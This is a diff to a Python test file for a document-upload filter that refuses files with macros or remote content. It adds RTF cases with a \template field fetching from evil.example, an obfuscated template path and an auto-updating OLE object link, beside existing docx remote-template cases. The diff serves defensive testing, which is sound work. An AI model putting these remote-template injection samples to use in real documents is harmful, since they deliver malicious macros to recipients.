@@ -74,6 +74,10 @@ def with_a_link():
     return packed({link: "/etc/passwd"})
 
 
+def rtf(inner):
+    return rb"{\rtf1\ansi" + inner + rb" Text}"
+
+
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
 
 
@@ -111,6 +115,9 @@ OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
         ("письмо.docx", fetching("oleObject", "mhtml:https://evil.example/x!x-usc:y"), "макросы"),
         ("письмо.docx", fetching("vbaProject", "x.bin", "Internal"), "макросы"),
         ("архив.zip", packed({"п.docx": fetching("attachedTemplate", "HTTPS://evil.example/x")}), "макросы"),
+        ("письмо.rtf", rtf(rb"{\*\template http://evil.example/x.dotm}"), "макросы"),
+        ("письмо.rtf", rtf(rb"{\*\template \u-65432?\u-65420?}"), "макросы"),
+        ("архив.zip", packed({"п.rtf": rtf(rb"{\object\objautlink\objupdate x}")}), "макросы"),
         ("письмо.odt", open_document_with_basic(), "макросы"),
         ("старое.doc", OLE + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 600, "макросы"),
         ("письмо.docm", with_macros(), "не принимаются"),
@@ -147,6 +154,9 @@ def test_it_is_refused_with_a_sentence(name, content, says):
         ("письмо.docx", fetching("attachedTemplate", "file:///C:/Шаблоны/Бланк.dotx")),
         ("письмо.docx", fetching("attachedTemplate", "\\\\server\\blank.dotx")),
         ("письмо.docx", fetching("hyperlink", "https://sochi.example/")),
+        ("письмо.rtf", rtf(rb"{\*\template C:\\\'d8\'e0\\a.dot}")),
+        ("письмо.rtf", rtf(rb"{\*\template \\\\server\\a.dot}")),
+        ("письмо.rtf", rtf(rb"{\*\template Normal.dotm}")),
         ("письмо.docx", docx()),
         ("старое.doc", OLE),
         ("письмо.odt", packed({"mimetype": "x", "content.xml": "<d/>"})),
